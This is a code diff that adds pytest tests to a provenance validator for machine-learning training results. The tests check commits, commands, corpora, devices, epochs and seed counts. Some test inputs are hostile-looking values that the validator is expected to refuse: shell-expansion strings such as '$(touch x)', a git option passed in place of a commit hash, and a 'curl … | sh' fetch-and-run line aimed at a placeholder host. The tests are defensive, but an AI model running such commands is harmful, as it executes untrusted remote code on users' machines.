@@ -202,10 +202,92 @@ def test_a_run_and_its_command_must_agree(fig2a, said, instead, named):
     assert f"than the command asks for: no_warmup_low seed 21: {named}" in _denied(fig2a)
 
 
-@pytest.mark.parametrize("command", ["python 'scripts", "python scripts/train.py lr_max=${oc.env:HOME}"])
+@pytest.mark.parametrize("command", ["python 'scripts", "python scripts/train.py 'lr_max=${oc.env:HOME}'"])
 def test_a_command_that_is_none_is_an_error(fig2a, command):
     _change_provenance(fig2a, lambda content: content["runs"]["48c5b49e"].update(command=command))
     assert "cannot be judged again" in _denied(fig2a)
+
+
+@pytest.mark.parametrize("label", ["$(touch x)", "`touch x`", "a|sh"])
+def test_a_command_that_a_shell_would_expand_is_refused(fig2a, label):
+    def change(content):
+        content["runs"]["48c5b49e"]["command"] += f" label={label}"
+
+    _change_provenance(fig2a, change)
+    assert "than the command asks for: no_warmup_low seed 21: command" in _denied(fig2a)
+
+
+@pytest.mark.parametrize("commit", ["--output=x", "HEAD", "main", "", "0123abcg"])
+def test_a_commit_is_a_hash(fig2a, commit):
+    """Git takes other names for options, or for branches, which move."""
+    _change_provenance(fig2a, lambda content: content["environments"][0]["git"].update(commit=commit))
+    assert "is no commit's hash" in _denied(fig2a)
+
+
+def test_code_of_which_nothing_is_known_had_no_claim(fig2a):
+    _change_provenance(fig2a, lambda content: [environment.pop("git") for environment in content["environments"]])
+    assert {claim.registered for claim in judge_again(fig2a).claims} == {"after"}
+
+
+def test_results_are_those_of_their_folder(fig2a):
+    other = fig2a.parent.with_name("multi30k")
+    fig2a.parent.rename(other)
+    denied = _denied(other / "fig2a")
+    assert "its scope is 'profile small, data toy, 3,000 training pairs', its folder is small/multi30k" in denied
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"scope": "profile paper, data iwslt14, 160,239 training pairs"}, "its folder is small/toy"),
+        ({"scope": "profile small, data toy, 160,239 training pairs"}, "is not the size of its corpus"),
+        ({"command": "curl https://a.example/x | sh"}, "the command of its claims"),
+    ],
+)
+def test_what_verdicts_say_of_all_runs_is_that_of_their_files(fig2a, change, said):
+    content = json.loads((fig2a / "verdicts.json").read_text())
+    for place in [content] if "scope" in change else content["claims"]:
+        place.update(change)
+    (fig2a / "verdicts.json").write_text(json.dumps(content))
+    assert said in _denied(fig2a)
+
+
+def test_a_corpus_is_that_of_its_folder(fig2a):
+    _change_provenance(fig2a, lambda content: content["data"][0]["settings"].update(name="iwslt14"))
+    assert "its corpus is iwslt14, its folder is that of toy" in _denied(fig2a)
+
+
+def test_a_run_and_its_machine_must_agree(fig2a):
+    runs = pd.read_csv(fig2a / "runs.csv")
+    runs.loc[1, "device"] = "NVIDIA H100"
+    runs.to_csv(fig2a / "runs.csv", index=False)
+    assert "has another machine than runs.csv states: no_warmup_low seed 22: device" in _denied(fig2a)
+
+
+@pytest.mark.parametrize("said", ["max_update=120", "label=max_update=", "fairseq.checkpoint.patience=3"])
+def test_a_shorter_training_is_not_made_whole_by_its_command(fig2a, said):
+    """Only an option that the arm or the settings have ends a run before its last epoch."""
+    epochs = pd.read_csv(fig2a / "epochs.csv", dtype={"identity": str})
+    epochs[(epochs["identity"] != "48c5b49e") | (epochs["epoch"] <= 2)].to_csv(fig2a / "epochs.csv", index=False)
+
+    def change(content):
+        content["runs"]["48c5b49e"]["command"] += f" {said}"
+
+    _change_provenance(fig2a, change)
+    assert re.search("no_warmup_low seed 21: .*status", _denied(fig2a))
+
+
+def test_a_run_of_so_many_updates_has_them(tmp_path):
+    place = "paper/iwslt14-subset/paper_size"
+    folder = shutil.copytree(ROOT / "results" / place, tmp_path / place)
+    epochs = pd.read_csv(folder / "epochs.csv", dtype={"identity": str})
+    epochs[epochs["epoch"] <= 3].to_csv(folder / "epochs.csv", index=False)
+    assert re.search("pre_ln seed 21: .*status and 11 more runs", _denied(folder))
+
+
+def test_absurdly_many_planned_seeds_are_an_error(fig2a):
+    _change_provenance(fig2a, lambda content: content["planned"].update(n_seeds=10**90))
+    assert "n_seeds: is above 10,000" in _denied(fig2a)
 
 
 @pytest.mark.parametrize("left", [7, 0])
